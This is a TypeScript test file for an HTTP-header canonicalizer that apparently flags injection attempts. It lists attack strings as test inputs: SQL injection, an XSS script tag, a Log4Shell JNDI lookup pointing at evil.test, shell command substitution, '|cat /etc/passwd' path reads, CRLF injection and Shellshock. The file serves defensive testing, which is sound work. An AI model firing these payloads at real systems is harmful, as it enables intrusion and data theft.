import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { canonical, shown, view } from './requests.js';

const WELL_FORMED: { name: string; value: string }[] = JSON.parse(
  readFileSync(new URL('../../vectors/canonicalize/headers.json', import.meta.url), 'utf8'),
);

const PAYLOADS = [
  "' or 1=1--",
  '"><script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4Shell is written like one
  '${jndi:ldap://evil.test/a}',
  '$(id)',
  '`id`',
  '{{7*7}}',
  '../../etc/passwd',
  '|cat /etc/passwd',
  '%27',
  '\r\nx: y',
  '\x00',
  '\xee\x80\x85',
  '(){ :; }; echo x',
  '%{(#a=1)}',
];

describe('well-formed standard headers', () => {
  test.each(WELL_FORMED)('$name: $value yields no field', ({ name, value }) => {
    expect(shown(canonical({ headers: [[name, value]] }))).toEqual([]);
  });

  const injected = WELL_FORMED.flatMap(({ name, value }) => PAYLOADS.map((payload) => ({ name, value, payload })));
  test.each(injected)('$name: $value with $payload yields a field', ({ name, value, payload }) => {
    for (const text of [payload, value + payload, `${value}, ${payload}`, payload + value]) {
      const fields = canonical({ headers: [[name, text]] }).fields.filter(({ zone }) => zone === 'header');
      expect(fields, text).not.toEqual([]);
      for (const field of fields) expect(field.name).toBe(name);
    }
  });

  test.each(WELL_FORMED)('$name is scored under an odd name', ({ name, value }) => {
    expect(canonical({ headers: [[`${name}'`, value]] }).fields.some(({ zone }) => zone === 'header')).toBe(true);
  });
});

describe('other headers', () => {
  test.each([
    ['x-api-version', '2024.1', []],
    ['x-custom', "it's", ["[HEADER]x-custom[VALUE]it's"]],
    ["x-'", '', ["[HEADER]x-'[VALUE]"]],
    ['', 'x', ['[HEADER][VALUE]x']],
    ['constructor', 'plain', []],
    ['__proto__', 'plain', ['[HEADER]__proto__[VALUE]plain']],
    ['constructor', "it's", ["[HEADER]constructor[VALUE]it's"]],
    ['user-agent', `curl/8.5.0 ${'x'.repeat(600)}`, [`[HEADER]user-agent[VALUE]curl/8.5.0 ${'x'.repeat(600)}`]],
  ] as const)('%s: %s', (name, value, fields) => {
    expect(shown(canonical({ headers: [[name, value]] }))).toEqual(fields);
  });

  test('each duplicate is judged on its own', () => {
    const headers = [
      ['accept', '*/*'],
      ['accept', "'"],
    ] as const;
    expect(shown(canonical({ headers }))).toEqual(["[HEADER]accept[VALUE]'"]);
  });
});

describe('authorization', () => {
  test.each([
    ['Bearer eyJhbGciOi.eyJzdWIi.sig_-', []],
    ["Bearer x' or 1=1", ["[HEADER]authorization[VALUE]Bearer x' or 1=1"]],
    [`Basic ${Buffer.from("ann' or 1=1:secret'").toString('base64')}`, ["[HEADER]authorization[VALUE]ann' or 1=1"]],
    ['Digest username="ann"', ['[HEADER]authorization[VALUE]Digest username="ann"']],
  ])('%s', (value, fields) => {
    expect(shown(canonical({ headers: [['authorization', value]] }))).toEqual(fields);
  });
});

describe('host', () => {
  test('the host of the pseudo-header is read where there is no other', () => {
    expect(shown(canonical({ host: 'shop.test' }))).toEqual([]);
    expect(shown(canonical({ host: "x'.test" }))).toEqual(["[HEADER]host[VALUE]x'.test"]);
    expect(shown(canonical({ host: "x'.test", headers: [['host', "x'.test"]] }))).toHaveLength(1);
    expect(canonical({ host: 'shop.test' }).bytesReceived).toBe(view({}).target.length + 'hostshop.test'.length);
  });
});
